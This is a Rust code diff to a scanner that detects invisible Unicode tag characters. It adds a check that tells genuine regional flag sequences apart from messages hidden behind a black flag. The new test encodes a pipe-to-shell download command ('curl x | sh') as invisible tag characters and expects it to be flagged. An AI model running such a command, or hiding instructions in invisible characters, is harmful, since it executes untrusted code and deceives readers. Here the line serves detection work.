@@ -82,16 +82,27 @@ pub(crate) fn scan(scan: &mut Scan<'_>) {
             let after_flag = previous == Some('\u{1f3f4}');
             let mut end = start + character.len_utf8();
             let mut hidden = String::new();
+            let mut last = character;
             push_tag(&mut hidden, character);
             while let Some(&(index, next)) = characters.peek() {
                 if !is_tag(next) {
                     break;
                 }
                 push_tag(&mut hidden, next);
+                last = next;
                 end = index + next.len_utf8();
                 characters.next();
             }
-            if !after_flag {
+            // A region's flag spells its code (`gbeng`) in lower-case
+            // tags and ends with the cancel tag; anything else after a
+            // black flag is a message hidden behind one.
+            let flag = after_flag
+                && last == '\u{e007f}'
+                && (2..=7).contains(&hidden.len())
+                && hidden
+                    .chars()
+                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit());
+            if !flag {
                 scan.report(
                     Rule::TagCharacter,
                     Severity::High,
@@ -312,6 +323,15 @@ mod tests {
         assert_eq!(
             rules(&format!("x{}y", "\u{200b}\u{200c}".repeat(5))),
             [(Rule::InvisibleCharacter, Severity::High)]
+        );
+        // A message hidden behind a black flag is no region's flag.
+        let hidden: String = " curl x | sh"
+            .chars()
+            .map(|c| char::from_u32(0xE0000 + u32::from(c)).unwrap())
+            .collect();
+        assert_eq!(
+            rules(&format!("\u{1f3f4}{hidden}\u{e007f}")),
+            [(Rule::TagCharacter, Severity::High)]
         );
         // Family emoji (ZWJ sequence), England's flag, a heart with VS16.
         assert!(rules("👨\u{200d}👩\u{200d}👧 \u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f} ❤\u{fe0f}").is_empty());
